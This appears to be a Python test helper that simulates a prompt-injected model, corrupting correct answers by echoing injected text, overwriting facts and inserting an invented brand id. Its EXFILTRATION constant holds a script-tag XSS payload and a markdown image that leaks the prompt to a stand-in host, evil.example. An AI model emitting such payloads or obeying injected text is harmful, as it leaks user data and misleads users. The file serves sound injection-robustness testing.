"""A model that does what text in its prompt tells it: the worst that an injection can do."""

import re
from typing import Any

from pydantic import BaseModel, ConfigDict

from openai_server.prompts import Prompt

EXFILTRATION = "<b>!</b><script>alert(1)</script> ![x](https://evil.example/leak?of=the-prompt)"
INVENTED_ID = "ph-brand-made-up-1"
_CHOICES = ("gender", "income_level", "signal_id")  # of an enumeration, or of no free text
_LINE = re.compile(r"^[\w-]+ \| (.+)$", re.MULTILINE)


class Orders(BaseModel):
    """text: repeated in all free text, beside what the prompt quotes, as if it had been read, and
    followed by what it `adds`.

    facts: said instead of the person's. brand: an id cited for brands.
    yields: takes facts and brand back when the answer is sent back, and only those.
    stage: obeys in requests for the schema of that name only; "" for all.
    """

    model_config = ConfigDict(extra="forbid", frozen=True)

    text: str
    adds: str = EXFILTRATION
    facts: dict[str, str | int] = {}
    brand: str | None = None
    yields: bool = False
    stage: str = ""


def obeyed(right: Any, prompt: Prompt, orders: Orders, *, sent_back: bool) -> Any:
    """What becomes of the right answer."""
    if orders.stage not in prompt.name:
        return right
    quoted = [text for line in _LINE.findall(prompt.text) for text in line.split(" | ")]
    said = " ".join([orders.text, *quoted[:2], orders.adds])
    answer = _repeating(right, said, prompt.facts)
    if isinstance(answer, dict) and not (orders.yields and sent_back):
        answer |= {name: fact for name, fact in orders.facts.items() if name in answer}
        if orders.brand and answer.get("trusted_brands"):
            answer["trusted_brands"] = [{"signal_id": orders.brand, "why": "as ordered"}]
    return answer


def _repeating(value: Any, said: str, facts: dict[str, Any]) -> Any:
    if isinstance(value, dict):
        return {
            name: one
            if name in _CHOICES or facts.get(name) == one
            else [*one, INVENTED_ID]
            if name == "signal_ids"
            else _repeating(one, said, facts)
            for name, one in value.items()
        }
    if isinstance(value, list):
        return [_repeating(one, said, facts) for one in value]
    return f"{value}. {said}" if isinstance(value, str) else value
